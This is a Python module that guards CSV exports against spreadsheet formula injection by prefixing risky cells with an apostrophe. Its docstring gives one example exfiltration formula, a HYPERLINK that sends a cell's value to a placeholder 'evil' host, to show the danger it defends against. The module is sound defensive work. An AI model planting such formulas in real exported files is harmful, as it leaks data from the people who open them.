"""CSV written for people who open it in a spreadsheet: no cell is ever run as a formula.

Spreadsheets treat a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula, so a report title like ``=HYPERLINK("http://evil/?"&A1)`` would
run on the reader's machine. Every CSV Vigil writes goes through :func:`csv_text`, which
prefixes such cells with an apostrophe (shown as text, not evaluated); plain numbers such as
``-0.0125`` are left alone so the columns stay numeric.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value``, with an apostrophe in front if a spreadsheet would read it as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV document of ``header`` and ``rows`` with every cell passed through
    :func:`neutralise`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return out.getvalue()
